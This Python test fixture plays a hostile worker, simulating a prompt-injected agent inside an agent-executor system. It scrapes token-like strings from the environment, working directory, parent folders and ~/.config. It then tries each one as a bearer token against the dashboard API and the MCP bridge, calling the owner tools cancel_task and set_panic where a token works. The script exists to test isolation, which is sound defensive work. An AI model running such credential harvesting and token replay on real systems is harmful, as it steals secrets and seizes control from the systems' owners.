"""A hostile worker for the `command` backend: it hunts for credentials and tries them.

It does what a prompt-injected agent would: collect every token-like string from
its environment, from every file under its working directory (``.executor/``
included) and under ``$HOME/.config``, and from the files directly inside each
parent folder up to ``/``; then present each one as a bearer token to the
dashboard API (owner only) and to the MCP bridge, where any token it gets in is
used for owner tools (``cancel_task`` of the task named in argv[1], ``set_panic``).  It writes what it found
and what worked to ``artifacts/<task>.json``; the test reads that.
"""

import json
import os
import re
import sys
from pathlib import Path

import anyio
import httpx
import httpx2
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

TOKENISH = re.compile(r"[A-Za-z0-9_\-]{32,64}")
MAX_FILE = 2 << 20
task = os.environ["TEAM_EXECUTOR_TASK_ID"]
url = os.environ.get("TEAM_EXECUTOR_MCP_URL", "")
base = url.removesuffix("/mcp")
victim = sys.argv[1] if len(sys.argv) > 1 else task  # the task it tries to cancel with what it found


def strings_in(path: Path) -> set[str]:
    try:
        if not path.is_file() or path.stat().st_size > MAX_FILE:
            return set()
        return set(TOKENISH.findall(path.read_bytes().decode("latin-1")))
    except OSError:
        return set()


def walk(root: Path) -> set[str]:
    found: set[str] = set()
    for folder, _dirs, files in os.walk(root):
        for name in files:
            found |= strings_in(Path(folder) / name)
    return found


candidates: set[str] = set()
for value in os.environ.values():
    candidates |= set(TOKENISH.findall(value))
cwd = Path.cwd()
candidates |= walk(cwd)
for parent in cwd.parents:
    try:
        for entry in parent.iterdir():
            candidates |= strings_in(entry)
    except OSError:
        pass
config = Path(os.environ.get("HOME", "/nonexistent")) / ".config"
if config.is_dir():
    candidates |= walk(config)

owner_api: list[str] = []
mcp_in: list[str] = []
listing = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
accept = {"Accept": "application/json, text/event-stream", "Content-Type": "application/json"}
with httpx.Client(timeout=10) as http:
    for candidate in sorted(candidates):
        bearer = {"Authorization": f"Bearer {candidate}"}
        if http.get(f"{base}/api/session", headers=bearer).status_code == 200:
            owner_api.append(candidate[:6])
        if http.post(url, json=listing, headers={**accept, **bearer}).status_code != 401:
            mcp_in.append(candidate)


def text_of(result: object) -> str:
    return " ".join(getattr(part, "text", "") for part in getattr(result, "content", []))


async def owner_tools(token: str) -> dict[str, str]:
    """Each owner tool the token managed to call, with what the bridge said."""
    done: dict[str, str] = {}
    http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {token}"})
    async with http, Client(streamable_http_client(url, http_client=http)) as client:
        for tool, arguments in (("cancel_task", {"task_id": victim}), ("set_panic", {"on": True})):
            result = await client.call_tool(tool, arguments)
            if not result.is_error:
                done[tool] = text_of(result)
    return done


owner_tool_calls = {token[:6]: anyio.run(owner_tools, token) for token in mcp_in}
report = {
    "candidates": len(candidates),
    "env_names": sorted(os.environ),
    "worker_token_found": os.environ.get("TEAM_EXECUTOR_MCP_TOKEN", "-") in candidates,
    "mcp_accepted": len(mcp_in),
    "owner_api": owner_api,
    "owner_tool_calls": {key: value for key, value in owner_tool_calls.items() if value},
}
artifacts = Path(os.environ["TEAM_EXECUTOR_ARTIFACTS"])
artifacts.mkdir(parents=True, exist_ok=True)
(artifacts / f"{task}.json").write_text(json.dumps(report, indent=1))
print(json.dumps({"type": "progress", "percent": 90, "note": "hunt written"}), flush=True)
